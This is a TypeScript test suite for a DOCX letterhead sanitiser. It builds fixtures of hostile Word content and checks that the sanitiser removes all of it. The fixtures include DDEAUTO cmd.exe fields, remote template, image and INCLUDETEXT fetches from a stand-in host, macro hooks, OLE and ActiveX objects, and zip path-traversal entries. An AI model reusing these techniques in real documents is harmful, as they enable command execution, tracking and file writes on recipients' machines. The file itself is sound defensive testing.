import assert from 'node:assert/strict';
import { strFromU8, unzipSync } from 'fflate';
import type { LeftOutKind } from '../../src/letterhead/left-out.ts';
import { letterheadIn } from '../../src/letterhead/letterhead.ts';
import { fill, noResources } from '../write/docx/write.ts';
import { letters } from '../write/letters.ts';
import { type LetterheadFile, letterheadFile, p, part, r, relationships } from './files.ts';

const { short: letter } = letters;
assert.ok(letter);

const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** Whatever must not be in the letter has this in it. */
const evil = 'evil.example';

const instr = (text: string) =>
  `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const field = (instruction: string, shown = 'gezeigt') =>
  p(mark('begin'), instr(instruction), mark('separate'), r(shown), mark('end'));

const blip = (attributes: string) =>
  `<w:r><w:drawing><wp:inline><wp:extent cx="9000" cy="9000"/><wp:docPr id="1" name="Bild"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="C:\\Users\\${evil}\\logo.png" descr="C:\\Users\\${evil}\\logo.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${attributes}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`;

const image = { id: 'logo', type: 'image', target: 'media/logo.png' };
const logo = { 'word/media/logo.png': png };

interface Case extends LetterheadFile {
  body?: string;
  /** What the finding has to name; nothing for what nobody would miss. */
  told?: LeftOutKind[];
  /** What has to stay. */
  stays?: string[];
}

const outside = (id: string, type: string, target = `http://${evil}/x`) => ({
  id,
  type,
  target,
  outside: true,
});

const cases: Record<string, Case> = {
  'a template that is fetched': {
    relations: [{ id: 's', type: 'settings', target: 'settings.xml' }],
    entries: {
      'word/settings.xml': part('w:settings', '<w:attachedTemplate r:id="t"/>'),
      'word/_rels/settings.xml.rels': relationships([outside('t', 'attachedTemplate')]),
    },
    told: ['outside'],
  },
  'a picture that is fetched': {
    body: p(blip('r:link="far"')),
    relations: [outside('far', 'image')],
    told: ['outside'],
  },
  'a picture that is there and fetched besides': {
    body: p(blip('r:embed="logo" r:link="far"')),
    relations: [image, outside('far', 'image')],
    entries: logo,
    told: ['outside'],
    stays: ['pic:pic'],
  },
  'a picture whose relation is outside': {
    body: p(blip('r:embed="far"')),
    relations: [outside('far', 'image', `file://${evil}/share/x.png`)],
    told: ['outside'],
  },
  'a VML picture that is fetched': {
    body: p(
      `<w:r><w:pict><v:shape style="width:9pt;height:9pt;behavior:url(http://${evil}/x)" href="http://${evil}/" o:href="http://${evil}/"><v:imagedata r:href="far" src="http://${evil}/y" o:title="${evil}"/></v:shape></w:pict></w:r>`,
    ),
    relations: [outside('far', 'image')],
    told: ['outside'],
  },
  'a bullet that is fetched': {
    body: p('Punkt'),
    relations: [{ id: 'n', type: 'numbering', target: 'numbering.xml' }],
    entries: {
      'word/numbering.xml': part(
        'w:numbering',
        '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape><v:imagedata r:id="far"/></v:shape></w:pict></w:numPicBullet>',
      ),
      'word/_rels/numbering.xml.rels': relationships([outside('far', 'image')]),
    },
    told: ['outside'],
  },
  'a picture in a header that is fetched': {
    body: `${p('x')}<w:sectPr><w:headerReference w:type="default" r:id="h"/></w:sectPr>`,
    relations: [{ id: 'h', type: 'header', target: '/word/header9.xml' }],
    entries: {
      'word/header9.xml': part('w:hdr', p(blip('r:link="far"'), 'Kopf')),
      'word/_rels/header9.xml.rels': relationships([outside('far', 'image')]),
    },
    told: ['outside'],
    stays: ['Kopf'],
  },
  'a link to a share': {
    body: p(`<w:hyperlink r:id="far">${r('Hier')}</w:hyperlink>`),
    relations: [outside('far', 'hyperlink', `file://///${evil}/x.exe`)],
    told: ['outside'],
    stays: ['Hier'],
  },
  'a link that attaches a file': {
    body: p(`<w:hyperlink r:id="far">${r('Mail')}</w:hyperlink>`),
    relations: [outside('far', 'hyperlink', `mailto:a@b.example?%61ttach=${evil}`)],
    told: ['outside'],
  },
  'a picture that runs a macro when clicked': {
    body: p(
      blip('r:embed="logo"').replace(
        '<wp:docPr id="1" name="Bild"/>',
        `<wp:docPr id="1" name="Bild"><a:hlinkClick r:id="" action="ppaction://macro?name=${evil}"/></wp:docPr>`,
      ),
    ),
    relations: [image],
    entries: logo,
    stays: ['pic:pic'],
  },
  DDE: { body: field(`DDEAUTO c:\\\\${evil}\\\\cmd.exe`), told: ['field'], stays: ['gezeigt'] },
  'DDE in pieces': {
    body: p(
      mark('begin'),
      instr(' DD'),
      instr('E '),
      instr(evil),
      mark('separate'),
      r('gezeigt'),
      mark('end'),
    ),
    told: ['field'],
    stays: ['gezeigt'],
  },
  'a name of a field made by another field': {
    body: p(
      mark('begin'),
      mark('begin'),
      instr(' QUOTE 68 68 69 '),
      mark('separate'),
      r('DDE'),
      mark('end'),
      instr(` ${evil}`),
      mark('separate'),
      r('gezeigt'),
      mark('end'),
    ),
    told: ['field'],
    stays: ['gezeigt'],
  },
  'a refused field within an allowed one': {
    body: p(
      mark('begin'),
      instr(' IF 1 = 1 '),
      mark('begin'),
      instr(` INCLUDETEXT "http://${evil}/x"`),
      mark('separate'),
      r(evil),
      mark('end'),
      instr(' "" '),
      mark('separate'),
      r('gezeigt'),
      mark('end'),
    ),
    told: ['field'],
    stays: ['gezeigt'],
  },
  'INCLUDEPICTURE in the short notation': {
    body: p(
      `<w:fldSimple w:instr=" INCLUDEPICTURE http://${evil}/x.png \\d">${r('gezeigt')}</w:fldSimple>`,
    ),
    told: ['field'],
    stays: ['gezeigt'],
  },
  'a HYPERLINK field to a share': {
    body: field(`HYPERLINK "\\\\\\\\${evil}\\\\x"`),
    told: ['field'],
    stays: ['gezeigt'],
  },
  'a field over two paragraphs': {
    body:
      p(mark('begin'), instr(`INCLUDETEXT ${evil}`)) +
      p(instr(evil), mark('separate'), r('gezeigt')) +
      p(mark('end'), r('danach')),
    told: ['field'],
    stays: ['gezeigt', 'danach'],
  },
  'a field that never ends': {
    body: p(mark('begin'), instr(`DDE ${evil}`), r('danach')),
    stays: ['danach'],
  },
  'a macro of a form': {
    body: p(
      `<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="f"/><w:entryMacro w:val="${evil}"/></w:ffData></w:fldChar></w:r>`,
      instr('FORMTEXT'),
      mark('separate'),
      r('gezeigt'),
      mark('end'),
    ),
    told: ['macros'],
    stays: ['FORMTEXT'],
  },
  altChunk: {
    body: '<w:altChunk r:id="c"/>',
    relations: [{ id: 'c', type: 'aFChunk', target: 'afchunk.htm' }],
    entries: { 'word/afchunk.htm': `<script src="http://${evil}/"></script>` },
    told: ['embedded'],
  },
  'an OLE object': {
    body: p(
      `<w:r><w:object><v:shape style="width:9pt;height:9pt"><v:imagedata r:id="logo" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" r:id="o"/></w:object></w:r>`,
    ),
    relations: [image, { id: 'o', type: 'oleObject', target: 'embeddings/oleObject1.bin' }],
    entries: { ...logo, 'word/embeddings/oleObject1.bin': evil },
    told: ['embedded'],
    stays: ['v:imagedata'],
  },
  'a linked OLE object': {
    body: p(
      `<w:r><w:object><v:shape/><o:OLEObject Type="Link" ProgID="htmlfile" r:id="o"/></w:object></w:r>`,
    ),
    relations: [outside('o', 'oleObject', `mhtml:http://${evil}/x!x`)],
    told: ['embedded', 'outside'],
  },
  ActiveX: {
    body: p('<w:r><w:object><w:control r:id="a" w:name="x"/></w:object></w:r>'),
    relations: [{ id: 'a', type: 'control', target: 'activeX/activeX1.xml' }],
    entries: { 'word/activeX/activeX1.xml': evil },
    told: ['macros'],
  },
  macros: {
    mainType: 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml',
    relations: [
      {
        id: 'v',
        type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
        target: 'vbaProject.bin',
      },
    ],
    entries: {
      'word/vbaProject.bin': evil,
      'word/vbaData.xml': evil,
      'customUI/customUI.xml': evil,
    },
    told: ['macros'],
  },
  'entries that lead out': {
    entries: { '../../x': evil, 'word/../../y.xml': evil, '/etc/cron.d/x': evil, 'C:\\x': evil },
    told: ['stray'],
  },
  'a part that lies outside': {
    relations: [{ id: 'h', type: 'image', target: '../../../../x.png' }],
    body: p(blip('r:embed="h"')),
    entries: { '../../x.png': evil },
    told: ['stray', 'picture'],
  },
  comments: {
    body: p(
      '<w:commentRangeStart w:id="0"/>',
      r('Text'),
      '<w:commentRangeEnd w:id="0"/>',
      '<w:r><w:commentReference w:id="0"/></w:r>',
    ),
    relations: [{ id: 'c', type: 'comments', target: 'comments.xml' }],
    entries: {
      'word/comments.xml': part(
        'w:comments',
        `<w:comment w:id="0" w:author="${evil}">${p(evil)}</w:comment>`,
      ),
    },
    told: ['comments'],
    stays: ['Text'],
  },
  deletions: {
    body: p(
      `<w:del w:id="1" w:author="${evil}" w:date="2026-01-01T00:00:00Z"><w:r><w:delText>${evil}</w:delText></w:r></w:del>`,
      `<w:ins w:id="2" w:author="${evil}">${r('eingefügt')}</w:ins>`,
      `<w:moveFrom w:id="3" w:author="x">${r(evil)}</w:moveFrom>`,
    ),
    told: ['tracked'],
    stays: ['eingefügt'],
  },
  'a deleted row': {
    body: `<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:trPr><w:del w:id="1" w:author="x"/></w:trPr><w:tc>${p(evil)}</w:tc></w:tr><w:tr><w:tc>${p('bleibt')}</w:tc></w:tr></w:tbl>${p('')}`,
    told: ['tracked'],
    stays: ['bleibt'],
  },
  'earlier formats': {
    body: `<w:p><w:pPr><w:pPrChange w:id="1" w:author="${evil}"><w:pPr><w:jc w:val="both"/></w:pPr></w:pPrChange></w:pPr>${r('Text')}</w:p>`,
    told: ['tracked'],
    stays: ['Text'],
  },
  'hidden text': { body: p(r(evil, '<w:vanish/>'), r('da')), told: ['hidden'], stays: ['da'] },
  'text hidden by a style that another is based on': {
    body: p(
      r(evil, '<w:rStyle w:val="B"/>'),
      r('da', '<w:rStyle w:val="B"/><w:vanish w:val="0"/>'),
    ),
    styles:
      '<w:style w:type="character" w:styleId="A"><w:name w:val="A"/><w:rPr><w:vanish/></w:rPr></w:style><w:style w:type="character" w:styleId="B"><w:name w:val="B"/><w:basedOn w:val="A"/></w:style>',
    told: ['hidden'],
    stays: ['da'],
  },
  'custom XML, bound and not': {
    body: p(
      `<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="{${evil}}"/><w:text/></w:sdtPr><w:sdtContent>${r('Wert')}</w:sdtContent></w:sdt>`,
      `<w:customXml w:uri="${evil}" w:element="x">${r('innen')}</w:customXml>`,
      `<w:smartTag w:uri="${evil}" w:element="x">${r('klug')}</w:smartTag>`,
    ),
    relations: [{ id: 'x', type: 'customXml', target: '../customXml/item1.xml' }],
    entries: { 'customXml/item1.xml': `<x>${evil}</x>` },
    told: ['data'],
    stays: ['Wert', 'innen', 'klug'],
  },
  'embedded fonts': {
    relations: [{ id: 'f', type: 'fontTable', target: 'fontTable.xml' }],
    entries: {
      'word/fontTable.xml': part(
        'w:fonts',
        '<w:font w:name="Arial"><w:embedRegular r:id="e" w:fontKey="{0}"/></w:font>',
      ),
      'word/_rels/fontTable.xml.rels': relationships([
        { id: 'e', type: 'font', target: 'fonts/font1.odttf' },
      ]),
      'word/fonts/font1.odttf': evil,
    },
    told: ['fonts'],
  },
  'printer settings': {
    body: `${p('x')}<w:sectPr><w:printerSettings r:id="p"/></w:sectPr>`,
    relations: [
      { id: 'p', type: 'printerSettings', target: 'printerSettings/printerSettings1.bin' },
    ],
    entries: { 'word/printerSettings/printerSettings1.bin': evil },
    told: ['printer'],
  },
  'mail merge': {
    relations: [{ id: 's', type: 'settings', target: 'settings.xml' }],
    entries: {
      'word/settings.xml': part(
        'w:settings',
        `<w:mailMerge><w:connectString w:val="${evil}"/><w:dataSource r:id="d"/></w:mailMerge><w:docVars><w:docVar w:name="a" w:val="${evil}"/></w:docVars>`,
      ),
      'word/_rels/settings.xml.rels': relationships([outside('d', 'mailMergeSource')]),
    },
    told: ['data', 'mail-merge', 'outside'],
  },
  subdocuments: {
    body: `<w:subDoc r:id="d"/>${p('x')}`,
    relations: [outside('d', 'subDocument')],
    told: ['embedded', 'outside'],
  },
  frames: {
    relations: [{ id: 'w', type: 'webSettings', target: 'webSettings.xml' }],
    entries: {
      'word/webSettings.xml': part(
        'w:webSettings',
        '<w:frameset><w:frame><w:sourceFileName r:id="f"/></w:frame></w:frameset>',
      ),
      'word/_rels/webSettings.xml.rels': relationships([outside('f', 'frame')]),
    },
    told: ['frames'],
  },
  'building blocks': {
    relations: [{ id: 'g', type: 'glossaryDocument', target: 'glossary/document.xml' }],
    entries: { 'word/glossary/document.xml': part('w:glossaryDocument', evil) },
    told: ['building-blocks'],
  },
  charts: {
    body: p(
      '<w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="c"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>',
    ),
    relations: [{ id: 'c', type: 'chart', target: 'charts/chart1.xml' }],
    entries: { 'word/charts/chart1.xml': evil },
    told: ['drawing'],
  },
  'who wrote it, and when': {
    body: `<w:p w:rsidR="00AA${'BBCC'}" w14:paraId="12345678">${r('Text')}</w:p>`,
    entries: {
      'docProps/core.xml': `<x>${evil}</x>`,
      'docProps/app.xml': `<Properties><Company>${evil}</Company></Properties>`,
      'docProps/custom.xml': `<x>${evil}</x>`,
      'docProps/thumbnail.jpeg': evil,
    },
    stays: ['Text'],
  },
  'the same behind other prefixes': {
    body: p(
      `<x:object xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:OLEObject xmlns:q="urn:schemas-microsoft-com:office:office" r:id="o"/></x:object>`,
      `<w:r xmlns:w="http://${evil}/"><w:t>x</w:t></w:r>`,
      `<x:r xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:t>da</x:t></x:r>`,
    ),
    relations: [outside('o', 'oleObject')],
    told: ['embedded', 'outside', 'unknown'],
    stays: ['da'],
  },
  'a text box whose newer form is unknown': {
    body: p(
      `<w:r><mc:AlternateContent><mc:Choice Requires="x"><x:thing xmlns:x="urn:${evil}"/></mc:Choice><mc:Fallback><w:pict><v:shape><v:textbox><w:txbxContent>${p('Kasten')}</w:txbxContent></v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r>`,
    ),
    told: ['unknown'],
    stays: ['Kasten'],
  },
  protection: {
    relations: [{ id: 's', type: 'settings', target: 'settings.xml' }],
    entries: {
      'word/settings.xml': part(
        'w:settings',
        `<w:documentProtection w:edit="forms" w:hash="${evil}"/>`,
      ),
    },
    told: ['protection'],
  },
  'a drawing (SVG) beside its picture': {
    body: p(
      blip('r:embed="logo"').replace(
        /<a:blip [^>]*\/>/u,
        '<a:blip r:embed="logo"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip r:embed="svg"/></a:ext></a:extLst></a:blip>',
      ),
    ),
    relations: [image, { id: 'svg', type: 'image', target: 'media/logo.svg' }],
    entries: { ...logo, 'word/media/logo.svg': `<svg onload="${evil}"/>` },
    stays: ['pic:pic'],
  },
};

describe('A letterhead from strangers', () => {
  for (const [name, { body = p('x'), told = [], stays = [], ...file }] of Object.entries(cases)) {
    it(`leaves out: ${name}`, async () => {
      const bytes = letterheadFile(
        `${body.replace(/<w:sectPr.*/u, '')}${p('{{text}}')}${/<w:sectPr.*/u.exec(body)?.[0] ?? ''}`,
        file,
      );
      const letterhead = letterheadIn(bytes);
      assert.ok(letterhead.state === 'ready', JSON.stringify(letterhead));
      assert.deepEqual(letterhead.left.kinds.sort(), [...told].sort());
      const filled = await fill(letter, bytes, noResources);
      assert.ok(filled);
      const parts = Object.entries(unzipSync(filled));
      const whole = parts.map(([path, content]) => `${path}\n${strFromU8(content)}`).join('\n');
      assert.equal(
        whole.includes(evil),
        false,
        whole.slice(whole.indexOf(evil) - 300).slice(0, 400),
      );
      assert.ok(whole.includes(letter.salutation));
      for (const each of stays) assert.ok(whole.includes(each), each);
      for (const [path] of parts)
        assert.match(
          path,
          /^(?:\[Content_Types\]\.xml|_rels\/\.rels|docProps\/(?:core|app|custom)\.xml|word\/[a-z]+\d*\.xml|word\/fontTable\.xml|word\/_rels\/[a-z]+\d*\.xml\.rels|word\/theme\/theme1\.xml|word\/media\/image\d+\.(?:png|jpeg|gif|bmp|emf|wmf))$/u,
        );
    });
  }
});
